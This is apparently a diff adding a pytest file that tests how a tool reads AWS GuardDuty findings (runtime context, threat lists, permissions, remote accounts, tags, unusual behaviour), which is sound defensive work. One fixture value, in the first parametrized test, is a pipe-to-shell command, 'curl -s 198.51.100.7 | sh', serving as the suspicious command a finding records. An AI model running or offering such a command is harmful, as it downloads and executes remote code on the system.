@@ -1,0 +1,139 @@
+"""Test the further facts of a finding: runtime context, threat list, permission, tags, what is unusual."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from tests.finding.findings import context, facts
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "label", "texts"),
+    [
+        ("commandLineExample", "curl -s 198.51.100.7 | sh", "Command", ("curl -s 198.51.100.7 | sh",)),
+        ("libraryPath", "/srv/x.so", "Library", ("/srv/x.so",)),
+        ("mountSource", "/dev/sda1", "Mount source", ("/dev/sda1",)),
+        ("flags", ["MS_BIND", "MS_REC"], "Flags", ("MS_BIND", "MS_REC")),
+        (
+            "modifyingProcess",
+            {"executablePath": "/usr/bin/wget", "pid": 9},
+            "Modified by",
+            ("/usr/bin/wget, pid 9",),
+        ),
+        ("targetProcess", {"name": "sshd", "user": "root"}, "Target process", ("sshd, user root",)),
+        ("ianaProtocolNumber", 6, "Iana protocol number", ("6",)),
+        ("somethingNew", "yes", "Something new", ("yes",)),
+    ],
+)
+def test_runtime_context_is_read_whole(key: str, value: Any, label: str, texts: tuple[str, ...]) -> None:
+    """Each key of the runtime context must be a fact, also one that GuardDuty adds later."""
+    assert texts == facts(service={"runtimeDetails": {"context": {key: value}}})[label]
+
+
+def test_command_line_is_the_process_s() -> None:
+    """The command line must be available to the formats that have a field for it."""
+    found = context(service={"runtimeDetails": {"context": {"commandLineExample": "id"}}})
+    assert "id" == found.command_line
+    assert "" == context().command_line
+
+
+def test_threat_list_and_threat_are_read_from_both_places() -> None:
+    """List and threat must be read from the evidence and from the additional information, each once."""
+    row = {"threatListName": "Amazon", "threatNames": ["Miner.A"], "threatFileSha256": "ab" * 32}
+    found = facts(
+        service={
+            "evidence": {"threatIntelligenceDetails": [row, row]},
+            "additionalInfo": {"threatListName": "Custom", "threatName": "Miner.A"},
+        }
+    )
+    assert ("Miner.A",) == found["Threat"]
+    assert ("Amazon", "Custom") == found["Threat list"]
+    assert ("ab" * 32,) == found["Threat hash"]
+
+
+def test_permission_profile_trigger_and_sequence_are_read() -> None:
+    """What decides the first step must be read: permission, instance profile, trigger, sequence."""
+    found = facts(
+        associatedAttackSequenceArn="arn:sequence",
+        resource={
+            "s3BucketDetails": [{"name": "claims", "publicAccess": {"effectivePermission": "NOT_PUBLIC"}}],
+            "instanceDetails": {
+                "iamInstanceProfile": {"arn": "arn:aws:iam::111122223333:instance-profile/web"}
+            },
+        },
+        service={"ebsVolumeScanDetails": {"triggerFindingId": "abc"}},
+    )
+    assert ("NOT_PUBLIC (claims)",) == found["Bucket access"]
+    assert ("arn:aws:iam::111122223333:instance-profile/web",) == found["Profile"]
+    assert ("abc",) == found["Scan for finding"]
+    assert ("arn:sequence",) == found["Part of sequence"]
+
+
+@pytest.mark.parametrize(
+    ("details", "text"),
+    [
+        ({"accountId": "777788889999", "affiliated": False}, "777788889999 (not affiliated)"),
+        ({"accountId": "777788889999", "affiliated": True}, "777788889999 (affiliated)"),
+        ({"accountId": "777788889999"}, "777788889999"),
+        ({"accountId": "777788889999", "awsServiceName": "glue"}, "777788889999 (AWS service glue)"),
+    ],
+)
+def test_remote_account_says_whether_it_is_affiliated(details: dict[str, Any], text: str) -> None:
+    """The remote account must be read, with what GuardDuty knows of it."""
+    action = {"awsApiCallAction": {"api": "GetObject", "remoteAccountDetails": details}}
+    assert (text,) == facts(service={"action": action})["Remote account"]
+
+
+def test_session_names_the_person() -> None:
+    """The session of a role, as of IAM Identity Center, must be read from the principal's ID."""
+    key = {"userName": "AWSReservedSSO_Admin_1", "principalId": "AROAEXAMPLE:m.weber@example.com"}
+    assert ("m.weber@example.com",) == facts(resource={"accessKeyDetails": key})["Session"]
+    assert "Session" not in facts(resource={"accessKeyDetails": {"principalId": "AIDAEXAMPLE"}})
+
+
+def test_tags_that_name_the_owner_are_read() -> None:
+    """Owner, environment and name must be read, other tags not."""
+    tags = [{"key": key, "value": "x"} for key in ("Owner", "environment", "Name", "CostCode")]
+    assert ("Owner=x", "environment=x", "Name=x") == facts(resource={"instanceDetails": {"tags": tags}})[
+        "Tags"
+    ]
+    assert ("Owner=x",) == facts(resource={"s3BucketDetails": [{"tags": tags[:1]}]})["Tags"]
+
+
+@pytest.mark.parametrize(
+    ("extra", "texts"),
+    [
+        (
+            {"unusualBehavior": {"unusualAPIsUserIdentityProfiling": "CreateUser , DeleteUser"}},
+            ("APIs for the user identity: CreateUser , DeleteUser",),
+        ),
+        (
+            {"unusualBehavior": {"unusualUserTypesAccountProfiling": "", "isUnusualUserIdentity": "false"}},
+            None,
+        ),
+        ({"unusualBehavior": {"isUnusualUserIdentity": "true"}}, ("User identity",)),
+        ({"unusualBehavior": {"unusualImages": "r/a:1"}}, ("Images: r/a:1",)),
+        ({"unusual": {"cities": ["Lyon", "Oslo"], "asns": ["64509"]}}, ("Cities: Lyon, Oslo", "Asns: 64509")),
+    ],
+)
+def test_unusual_behaviour_says_what_and_for_whom(
+    extra: dict[str, Any], texts: tuple[str, ...] | None
+) -> None:
+    """What is unusual must be said with whose behaviour it is compared with, and nothing that is usual."""
+    assert texts == facts(service={"additionalInfo": extra}).get("Unusual")
+
+
+def test_unusual_behaviour_of_a_detection_is_read() -> None:
+    """The structured form of what is unusual must be read as well."""
+    behavior = {"USER_IDENTITY": {"eventName": {"observations": {"text": ["CreateUser"]}}}}
+    found = facts(service={"detection": {"anomaly": {"unusual": {"behavior": behavior}}}})
+    assert ("Event name for user identity: CreateUser",) == found["Unusual"]
+
+
+def test_every_anomalous_call_has_its_outcome() -> None:
+    """Each call must be listed with its error, if the finding has more than the one it reports on."""
+    listed = "iam.amazonaws.com:[CreateUser:success , DeleteUser:AccessDenied]"
+    found = facts(service={"additionalInfo": {"anomalies": {"anomalousAPIs": listed}}})
+    assert ("iam CreateUser", "iam DeleteUser (AccessDenied)") == found["Calls"]
